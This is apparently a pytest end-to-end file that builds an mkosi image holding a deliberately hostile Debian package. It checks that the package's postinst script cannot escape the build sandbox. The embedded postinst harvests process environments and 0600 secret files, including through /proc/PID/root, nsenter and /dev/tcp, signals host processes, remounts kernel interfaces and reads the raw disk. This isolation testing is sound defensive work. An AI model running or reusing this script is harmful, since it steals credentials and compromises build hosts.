"""Builds a package whose script attacks the machine, and looks at what it got. This takes minutes.

The build is a real one by mkosi, once by root and once by a user. What the script could read or do,
it writes into the image.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from scripts import arch
from tests.e2e.checkout import DEBIAN, TOOLS, Build, Copy, copy, environ
from tests.e2e.test_build_faults import make_python

NATIVE = arch.native().name

# What the build's environment, a file and a server of the machine hold. Nobody may learn them.
IN_ENVIRONMENT = "secret-of-the-environment"
IN_FILE = "secret-of-the-file"
IN_NETWORK = "secret-of-the-network"

# Where the script writes in the image.
LOOT = "usr/share/loot"

POSTINST = """\
#!/bin/bash
exec 2>/dev/null
loot=/{loot}
mkdir -p $loot
cd $loot
for process in /proc/[0-9]*; do
    tr '\\0' '\\n' < $process/environ >> environ
    tr '\\0' ' ' < $process/cmdline >> cmdlines
    cat "$process/root{secret}" "$process/root{checkout}/.netrc" >> files
    for folder in "{folder}" "{checkout}" "{python}" /etc /usr; do
        touch "$process/root$folder/planted"
    done
done
touch "{folder}/planted" "{checkout}/planted"
cat "{secret}" >> files
nsenter --target 1 --mount cat "{secret}" >> files
cat < /dev/tcp/127.0.0.1/{port} > network
kill -0 {victim} && echo {victim} > signals
for name in /proc/sys /proc/sysrq-trigger; do umount $name; mount -o remount,bind,rw $name; done
mkdir mounted
mount -t proc proc mounted && : >> mounted/sys/kernel/core_pattern && echo 1 > kernel
umount mounted
mount -t sysfs sysfs mounted && echo sysfs >> mounts
mount -t devtmpfs devtmpfs mounted && echo devtmpfs >> mounts
mount -t cgroup2 cgroup2 mounted && : >> mounted/cgroup.procs && echo cgroup >> mounts
: >> /proc/sys/kernel/core_pattern && echo 2 >> kernel
: >> /proc/sysrq-trigger && echo 3 >> kernel
mknod disk b {disk} && head -c 512 disk > disks
rm -f disk
rmdir mounted
uname -n > host
cat /proc/self/status > status
echo it is over > ran
exit 0
"""

CONTROL = """\
Package: finch-attack
Version: 1
Architecture: all
Maintainer: Nobody <nobody@example.org>
Depends: bash, coreutils, util-linux
Description: attacks the machine that it is installed on
"""

# An image with little in it beside the attack.
CONF = """\
[Output]
Format=directory
ManifestFormat=json

[Content]
Bootable=no
CleanPackageMetadata=no
Packages=
        bash
        mount
        finch-attack
"""


@dataclass(frozen=True)
class Attack:
    """A copy of the checkout whose base has the attacking package, and what it is after."""

    copied: Copy
    folder: Path
    secret: Path

    @property
    def loot(self) -> Path:
        """What the script wrote into the image."""
        return self.copied.work / "debian" / NATIVE / "stages/base/base" / LOOT

    def read(self, name: str) -> str:
        """Return a file of the loot; "" if the script could not make it."""
        path = self.loot / name
        return path.read_text(errors="replace") if path.exists() else ""

    def planted(self) -> list[Path]:
        """Return the files that the script has left on this machine."""
        homes = (self.folder, self.copied.root, Path(sys.prefix), Path("/etc"), Path("/usr"))
        return [path for home in homes if (path := home / "planted").exists()]


@contextmanager
def secret_server() -> Iterator[int]:
    """Serve a secret to everyone on loopback, and yield the port."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    with server.accept()[0] as client:
                        client.sendall(IN_NETWORK.encode())
                except OSError:
                    return

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


def prepare(checkout: Path, folder: Path, port: int, python: Path) -> Attack:
    """Copy the checkout into folder, and give its base a package that attacks."""
    copied = copy(checkout, folder / "checkout", checkout / ".work", TOOLS)
    (copied.root / ".netrc").write_text(IN_FILE)
    secret = folder / "secret"
    secret.write_text(IN_FILE)
    secret.chmod(0o600)
    device = Path("/").stat().st_dev
    script = POSTINST.format(
        loot=LOOT,
        secret=secret,
        checkout=copied.root,
        python=python,
        folder=folder,
        port=port,
        victim=os.getpid(),
        disk=f"{os.major(device)} {os.minor(device)}",
    )
    image = copied.root / "mkosi.images/base"
    shutil.rmtree(image)
    image.mkdir()
    (image / "mkosi.conf").write_text(CONF)
    packages = pack(folder / "packages", script)
    # mkosi makes a repository of the folder with apt-ftparchive, which our tools tree lacks. So the
    # folder is not for the tools tree itself.
    (copied.root / "mkosi.images/tools-tree/mkosi.conf.d").mkdir(exist_ok=True)
    (copied.root / "mkosi.images/tools-tree/mkosi.conf.d/attack.conf").write_text(
        "[Content]\nPackages=apt-utils\n"
    )
    (copied.root / "mkosi.local.conf").write_text(
        f"[Match]\nImageId=base\n\n[Content]\nPackageDirectories={packages}\n"
    )
    return Attack(copied, folder, secret)


def pack(folder: Path, script: str) -> Path:
    """Build the package with script as its postinst, and return the folder that holds it."""
    tree = folder.with_name("tree")
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "DEBIAN/control").write_text(CONTROL)
    (tree / "DEBIAN/postinst").write_text(script)
    (tree / "DEBIAN/postinst").chmod(0o755)
    folder.mkdir()
    deb = folder / "finch-attack_1_all.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "--build", tree, deb], check=True)
    return folder


@pytest.fixture(scope="module", params=["root", "user"])
def attack(request: pytest.FixtureRequest, checkout: Path) -> Iterator[Attack]:
    """A finished build of the attack, by root or by a user with subordinate UIDs."""
    if os.geteuid() != 0:
        pytest.fail("this test builds as root and as a user that it makes: run it as root")
    folder = Path(tempfile.mkdtemp(prefix="finch-attack-"))
    name = f"finch-{os.getpid()}"
    try:
        with secret_server() as port:
            command: list[str | Path] = []
            if request.param == "root":
                attack = prepare(checkout, folder, port, Path(sys.prefix))
                command += [sys.executable]
            else:
                python = make_python(folder / "python")
                attack = prepare(checkout, folder, port, folder / "python")
                command += [*as_new_user(name, folder), python]
            build = Build(
                [*command, "-m", "scripts.sessions.build", *DEBIAN, "--image", "base"],
                attack.copied.root,
                environ() | {"AWS_SECRET_ACCESS_KEY": IN_ENVIRONMENT, "HOME": os.fspath(folder)},
            )
            assert build.wait(within=600) == 0, build.output
        yield attack
    finally:
        if request.param == "user":
            subprocess.run(["userdel", name], check=True)
        shutil.rmtree(folder)


def as_new_user(name: str, folder: Path) -> list[str | Path]:
    """Make a user who owns folder, and return the beginning of a command that this user runs."""
    subprocess.run(["useradd", "--system", "--home-dir", folder, name], check=True)
    ids = "1000000-1065535"
    subprocess.run(["usermod", "--add-subuids", ids, "--add-subgids", ids, name], check=True)
    subprocess.run(["chown", "-R", name, folder], check=True)
    return [shutil.which("runuser") or "runuser", "-u", name, "--"]


def test_the_attack_took_place(attack: Attack) -> None:
    assert attack.read("ran") == "it is over\n"
    assert "CapEff" in attack.read("status")
    assert "PATH=" in attack.read("environ")


def test_a_package_script_reads_no_secret_in_the_environment_of_any_process(
    attack: Attack,
) -> None:
    assert IN_ENVIRONMENT not in attack.read("environ")
    assert "AWS_" not in attack.read("environ")


def test_a_package_script_reads_no_0600_file_of_the_host_by_any_path(attack: Attack) -> None:
    assert attack.read("files") == ""


def test_a_package_script_writes_nothing_through_proc_pid_root(attack: Attack) -> None:
    assert attack.planted() == []


def test_a_package_script_sees_and_signals_no_process_of_the_host(attack: Attack) -> None:
    assert attack.read("signals") == ""
    assert "scripts.sessions.build" not in attack.read("cmdlines")


def test_a_package_script_reaches_no_server_on_the_host(attack: Attack) -> None:
    assert attack.read("network") == ""


def test_a_package_script_mounts_neither_devices_nor_the_kernel_s_settings(attack: Attack) -> None:
    assert "sysfs" not in attack.read("mounts")
    assert "devtmpfs" not in attack.read("mounts")
    assert "cgroup" not in attack.read("mounts")
    assert attack.read("kernel") == ""
    assert attack.read("disks") == ""


def test_a_package_script_does_not_learn_the_name_of_the_host(attack: Attack) -> None:
    assert attack.read("host") == "localhost\n"
